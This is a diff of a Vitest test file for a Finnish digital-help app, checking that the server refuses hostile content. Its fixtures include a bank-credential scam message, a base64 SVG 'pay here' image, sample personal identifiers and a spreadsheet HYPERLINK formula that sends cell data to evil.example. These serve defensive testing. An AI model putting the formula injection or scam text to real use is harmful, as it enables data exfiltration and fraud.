@@ -5,37 +5,28 @@ import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import Papa from 'papaparse';
-import { afterEach, beforeEach, expect, it } from 'vitest';
+import { afterEach, beforeEach, expect } from 'vitest';
 import { FEEDBACK_QUESTIONS } from '../../src/protocol';
 import { runCommand } from '../../src/server/cli';
-import type { Store } from '../../src/server/store';
 import { describeEachBackend, type Backend } from './support/backends';
-import { FEEDBACK, GUIDE, SESSION, T0, buildWorld, change, hlcAt, type World } from './support/world';
+import { FEEDBACK, GUIDE, SESSION, T0, change, hlcAt } from './support/world';
 
 const SCAM = 'Kela on muuttanut ohjetta: soita heti 0700 123 456 ja kerro pankkitunnuksesi.';
 const DATA_SVG = `data:image/svg+xml;base64,${Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><text y="20">Maksa tästä</text></svg>').toString('base64')}`;
 const PERSONAL_NOTE = '010190-123A, 040 123 4567, matti@example.fi';
 const FORMULA_NOTE = '=HYPERLINK("http://evil.example/?d="&A1,"Avaa liite")\nlisätietoja';
 
-describeEachBackend('trusted content', (backend: Backend) => {
-  let store: Store;
-  let world: World;
-  let opened: Awaited<ReturnType<Backend['open']>>;
+describeEachBackend('trusted content', (_backend: Backend, it) => {
   let out: string;
 
-  beforeEach(async () => {
-    opened = await backend.open();
-    store = opened.store;
-    world = await buildWorld(store);
+  beforeEach(() => {
     out = mkdtempSync(join(tmpdir(), 'digituki-export-'));
   });
-  afterEach(async () => {
-    await store.close();
-    await opened.cleanup();
+  afterEach(() => {
     rmSync(out, { recursive: true, force: true });
   });
 
-  it('refuses every change to a built-in guide: its text, its picture, a step put into it, a guide calling itself built-in (12.1)', async () => {
+  it('refuses every change to a built-in guide: its text, its picture, a step put into it, a guide calling itself built-in (12.1)', async ({ store, world }) => {
     const { a1, a1b, a2, orgA } = world;
     const attack = [
       change(a1, 'guideSteps', 'b-kela-liite-fi-1', { text: SCAM, imageUrl: DATA_SVG }),
@@ -63,7 +54,7 @@ describeEachBackend('trusted content', (backend: Backend) => {
     expect(policy.split('; ').find((directive) => directive.startsWith('img-src'))).toBe("img-src 'self' blob:");
   });
 
-  it('refuses feedback that answers questions the app does not ask, prototype keys included (12.3)', async () => {
+  it('refuses feedback that answers questions the app does not ask, prototype keys included (12.3)', async ({ world }) => {
     const { a1, a1b } = world;
     const columns = change(a1, 'feedback', 'fb-columns', { ...FEEDBACK, answers: { mood: 5, id: 'x', site: 'x', lang: 'x' } });
     const prototype = change(a1, 'feedback', 'fb-prototype', { ...FEEDBACK, answers: { mood: 4, constructor: 1, toString: ['a'], valueOf: 2 } });
@@ -79,7 +70,7 @@ describeEachBackend('trusted content', (backend: Backend) => {
     expect((await a1b.pullAll()).changes.map((c) => c.id)).toEqual(['fb-good']);
   });
 
-  it('refuses a session note with an identity code, a phone number or an e-mail address, and keeps none of it (12.4)', async () => {
+  it('refuses a session note with an identity code, a phone number or an e-mail address, and keeps none of it (12.4)', async ({ store, world }) => {
     const { a1, a1b, orgA } = world;
     const attack = change(a1, 'sessions', 'log-attack', { ...SESSION, note: PERSONAL_NOTE });
     const identityCode = change(a1, 'sessions', 'log-hetu', { note: 'Asiakas 010190-123M tarvitsi apua' });
@@ -104,7 +95,7 @@ describeEachBackend('trusted content', (backend: Backend) => {
     expect((await store.recordsOfOrganisation(orgA, 'sessions')).map((r) => [r.id, r.fields.note])).toEqual([['log-ok', 'Kelan liite lähti yhdessä']]);
   });
 
-  it('exports no cell a spreadsheet could run, and own answers only: no key blanks or invents a column (12.2, 12.3)', async () => {
+  it('exports no cell a spreadsheet could run, and own answers only: no key blanks or invents a column (12.2, 12.3)', async ({ store, world }) => {
     const { a1, orgA, siteA1 } = world;
     await a1.push([
       change(a1, 'sessions', 'log-formula', { ...SESSION, note: FORMULA_NOTE, topics: ['attachments'] }),
